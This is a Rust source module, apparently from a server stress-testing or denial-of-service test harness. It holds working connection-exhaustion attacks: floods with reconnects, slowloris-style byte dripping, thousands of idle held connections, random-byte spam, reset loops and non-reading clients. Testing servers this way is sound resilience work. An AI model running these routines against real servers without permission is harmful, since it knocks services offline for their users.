//! Sockets of an attacker: one thread writes and reads on many of them as fast as it can.

use crate::target::Target;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

/// Receive buffer of clients that don't read, in bytes.
const SMALL: usize = 4096;

/// Reading of responses by an attacker.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum ReadBehaviour {
    All,
    /// Bytes per millisecond.
    Slowly(usize),
    Nothing,
}

/// Connects to the target; `None` if the connection fails.
pub(crate) fn connect(target: &Target) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&target.address, Duration::from_secs(2)).ok()?;
    stream.set_nodelay(true).ok()?;
    stream.set_write_timeout(Some(Duration::from_secs(2))).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    Some(stream)
}

/// Closes a connection with a reset.
pub(crate) fn reset(stream: TcpStream) {
    let _ = rustix::net::sockopt::set_socket_linger(&stream, Some(Duration::ZERO));
}

/// Opens `count` connections that each send `first`.
pub(crate) fn connect_many(target: &Target, count: usize, first: &[u8]) -> Vec<TcpStream> {
    let greeted = |mut stream: TcpStream| stream.write_all(first).ok().map(|()| stream);
    (0..count).filter_map(|_| connect(target)).filter_map(greeted).collect()
}

/// Holds connections until the attack ends.
pub(crate) fn hold(target: &Target, held: &[TcpStream]) -> String {
    while target.is_active() {
        std::thread::sleep(Duration::from_millis(20));
    }
    format!("{} connections held", held.len())
}

/// Sends `bytes` once on each of `count` connections, as fast as the server reads, and then nothing
/// more.
pub(crate) fn send_once(target: &Target, count: usize, bytes: &[u8]) -> String {
    let mut flooders: Vec<Flooder> = (0..count).filter_map(|_| Flooder::new(target, b"", ReadBehaviour::All)).collect();
    while target.is_active() {
        flooders.retain_mut(|flooder| match flooder.stream.write(&bytes[flooder.at..]) {
            Ok(sent) => {
                flooder.at += sent;
                true
            }
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        });
        std::thread::sleep(Duration::from_millis(1));
    }
    let sent: usize = flooders.iter().map(|flooder| flooder.at).sum();
    format!("{} connections left, {sent} bytes taken from them", flooders.len())
}

/// Sends `first` once and then `again` repeatedly on each of `count` connections, as fast as the
/// server reads.
pub(crate) fn flood(target: &Target, count: usize, first: &[u8], again: &[u8], reads: ReadBehaviour) -> String {
    let mut flooders: Vec<Flooder> = (0..count).filter_map(|_| Flooder::new(target, first, reads)).collect();
    let (mut sent, mut received, mut ended) = (0, 0, 0);
    let mut into = vec![0; 1 << 16];
    while target.is_active() {
        let mut moved = 0;
        for flooder in &mut flooders {
            let (out, back, is_open) = flooder.poll(again, &mut into, reads);
            (sent, received, moved) = (sent + out, received + back, moved + out + back);
            if !is_open {
                // The server closed the connection: the attacker reconnects.
                ended += 1;
                if let Some(fresh) = Flooder::new(target, first, reads) {
                    *flooder = fresh;
                }
            }
        }
        if moved == 0 {
            std::thread::sleep(Duration::from_micros(200));
        }
    }
    format!("{} bytes sent, {} received, sent away {} times", sent, received, ended)
}

struct Flooder {
    stream: TcpStream,
    /// Number of bytes of the current repetition that are sent.
    at: usize,
}

impl Flooder {
    fn new(target: &Target, first: &[u8], reads: ReadBehaviour) -> Option<Self> {
        let mut stream = connect(target)?;
        if reads != ReadBehaviour::All {
            let _ = rustix::net::sockopt::set_socket_recv_buffer_size(&stream, SMALL);
        }
        stream.write_all(first).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(Flooder { stream, at: 0 })
    }

    /// Writes and reads once; returns both numbers of bytes, and whether the connection is still
    /// open.
    fn poll(&mut self, again: &[u8], into: &mut [u8], reads: ReadBehaviour) -> (usize, usize, bool) {
        let sent = match self.stream.write(&again[self.at..]) {
            Ok(sent) => sent,
            Err(error) if error.kind() == ErrorKind::WouldBlock => 0,
            Err(_) => return (0, 0, false),
        };
        self.at = (self.at + sent) % again.len();
        let most = match reads {
            ReadBehaviour::All => into.len(),
            ReadBehaviour::Slowly(bytes) => bytes,
            ReadBehaviour::Nothing => return (sent, 0, true),
        };
        match self.stream.read(&mut into[..most]) {
            Ok(0) => (sent, 0, false),
            Ok(received) => (sent, received, true),
            Err(error) if error.kind() == ErrorKind::WouldBlock => (sent, 0, true),
            Err(_) => (sent, 0, false),
        }
    }
}

/// Sends one byte of `bytes` per second on each of `count` connections.
pub(crate) fn drip(target: &Target, count: usize, bytes: &[u8]) -> String {
    let mut streams = connect_many(target, count, b"");
    for byte in bytes {
        if !target.is_active() {
            break;
        }
        streams.retain_mut(|stream| stream.write_all(&[*byte]).is_ok());
        std::thread::sleep(
            Duration::from_secs(1).min(target.until.saturating_duration_since(std::time::Instant::now())),
        );
    }
    format!("{} connections left", streams.len())
}

/// Sends random bytes, on one connection after the other.
pub(crate) fn random(target: &Target) -> String {
    let mut rng = target.rng();
    let mut rounds = 0;
    while target.is_active() {
        if let Some(mut stream) = connect(target) {
            let _ = stream.write_all(&rng.bytes(65_536));
            rounds += 1;
        }
    }
    format!("{rounds} connections")
}

/// Opens connections that send nothing.
pub(crate) fn idle(target: &Target) -> String {
    hold(target, &connect_many(target, 2_000, b""))
}

/// Opens connections that send `message` and are reset, one after the other.
pub(crate) fn connect_and_reset(target: &Target, message: &[u8]) -> String {
    let mut rounds = 0;
    while target.is_active() {
        if let Some(mut stream) = connect(target) {
            let _ = stream.write_all(message);
            reset(stream);
            rounds += 1;
        }
    }
    format!("{rounds} connections")
}
